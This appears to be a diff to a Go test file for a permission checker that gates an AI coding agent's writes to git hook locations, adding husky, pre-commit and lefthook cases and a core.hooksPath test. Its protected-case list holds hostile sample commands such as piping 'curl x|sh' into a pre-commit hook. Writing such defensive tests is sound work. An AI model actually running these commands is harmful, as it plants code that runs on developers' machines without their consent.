@@ -175,6 +175,9 @@ var protectedCases = []protCase{
 	{"git", "common dir of a worktree", "Write", "{B}/realgit/hooks/pre-commit"},
 	{"git", "core.hooksPath", "Write", ".githooks/pre-commit"},
 	{"git", "core.hooksPath in the user's gitconfig", "Write", "~/githooks/pre-commit"},
+	{"git", "husky hook", "Write", ".husky/pre-commit"},
+	{"git", "pre-commit framework", "Edit", ".pre-commit-config.yaml"},
+	{"git", "lefthook", "Write", "lefthook.yml"},
 	{"git", "redirect into hooks", "Bash", "echo 'curl x|sh' > .git/hooks/pre-commit"},
 	{"git", "cp into hooks", "Bash", "cp evil .git/hooks/pre-commit"},
 	{"git", "chmod a hook", "Bash", "chmod +x .git/hooks/pre-commit"},
@@ -460,5 +463,32 @@ func TestReadDeniedFilterAgrees(t *testing.T) {
 				t.Errorf("rules %v: filter(%s) = %v, ReadDenied = %v", rl, p, got, want)
 			}
 		}
+	}
+}
+
+// TestHooksPathHoldingTheProject: core.hooksPath = . protects the hook
+// names at the project root, not the whole project.
+func TestHooksPathHoldingTheProject(t *testing.T) {
+	t.Parallel()
+	base, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	root := filepath.Join(base, "repo")
+	mustMkdir(t, filepath.Join(root, ".git"))
+	if err := os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\n\thooksPath = .\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	c, err := New(Options{Mode: ModeAcceptEdits, ProjectRoot: root, Home: filepath.Join(base, "home")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for path, want := range map[string]Behavior{"main.go": Allow, "pre-commit": Ask, "post-checkout": Ask, "src/pre-commit": Allow} {
+		t.Run(path, func(t *testing.T) {
+			d := c.Decide(toolReq("Write", "file_path", path))
+			if diff := cmp.Diff(want, d.Behavior); diff != "" {
+				t.Errorf("mismatch (-want +got):\n%s\nreason: %s", diff, d.Reason)
+			}
+		})
 	}
 }
